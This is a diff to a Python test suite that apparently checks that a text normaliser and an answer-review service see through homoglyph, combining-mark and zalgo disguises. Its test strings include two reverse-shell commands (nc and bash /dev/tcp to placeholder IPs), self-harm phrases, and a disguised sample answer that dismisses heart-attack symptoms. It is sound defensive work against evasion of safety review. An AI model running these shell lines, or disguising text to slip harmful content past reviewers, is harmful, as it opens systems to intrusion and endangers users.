@@ -110,7 +110,7 @@ def test_near_look_alikes_and_bars_read_as_the_letter_a_reader_sees(
 def test_short_words_of_another_script_stay_as_they_are_beside_a_disguised_one() -> None:
     # Russian "а", "с", "у", "о" are words of their own, not disguised Latin letters; "lеthаl" is, and so is a
     # two-letter word all of look-alikes ("ѕһ" in /bin/ѕһ)
-    assert visible("и а с у о The l\u0435th\u0430l dose").text == "и а с у о The lethal dose"
+    assert visible("и а с у о. The l\u0435th\u0430l dose").text == "и а с у о. The lethal dose"
     assert visible("nc 10.0.0.1 4444 -e /bin/\u0455\u04bb").text == "nc 10.0.0.1 4444 -e /bin/sh"
 
 
@@ -125,3 +125,32 @@ def test_a_look_alike_beside_an_invisible_character_is_read_in_the_word_a_reader
     expected = review(client, "How do I make quick money on penny stocks?", plain)
     assert expected["verdict"] != "approve"
     assert review(client, "How do I make quick money on penny stocks?", answer)["verdict"] == expected["verdict"]
+
+
+@pytest.mark.parametrize(
+    ("disguised", "plain"),
+    [
+        # combining marks on Latin letters (not precomposed), and zalgo
+        ("The most pa\u0301inless wa\u0301y to ki\u0301ll", "The most painless way to kill"),
+        ("z\u0336a\u0337l\u0338g\u0335o", "zalgo"),
+        # a one-letter command flag in a look-alike
+        ("bash -\u0456 >& /dev/tcp/203.0.113.7/9001 0>&1", "bash -i >& /dev/tcp/203.0.113.7/9001 0>&1"),
+        # in a sentence that shows a disguise, words all of look-alikes are read too ("ηο" is "no")
+        ("Τhεrε ιs ηο ηεεd το gο το τhε ΕR.", "There is no need to go to the ER."),
+    ],
+)
+def test_marks_flags_and_disguised_sentences_read_as_a_reader_sees_them(disguised: str, plain: str) -> None:
+    assert visible(disguised).text == plain
+
+
+def test_a_sentence_of_greek_or_russian_keeps_its_words() -> None:
+    text = "Και το φάρμακο είναι καλό. Примите 2 таблетки. The l\u0435th\u0430l dose."
+    assert visible(text).text == "Και το φάρμακο είναι καλό. Примите 2 таблетки. The lethal dose."
+
+
+def test_a_negation_in_look_alikes_does_not_turn_a_dismissal_into_a_referral(client: TestClient) -> None:
+    question = "I have crushing chest pain spreading to my left arm and I'm sweating. What should I do?"
+    answer = "Ιτ ιs ρrοbαblγ jυsτ αηχιετγ. Τhεrε ιs ηο ηεεd το gο το τhε ΕR."
+    expected = review(client, question, "It is probably just anxiety. There is no need to go to the ER.")
+    assert expected["verdict"] != "approve"
+    assert review(client, question, answer)["verdict"] == expected["verdict"]
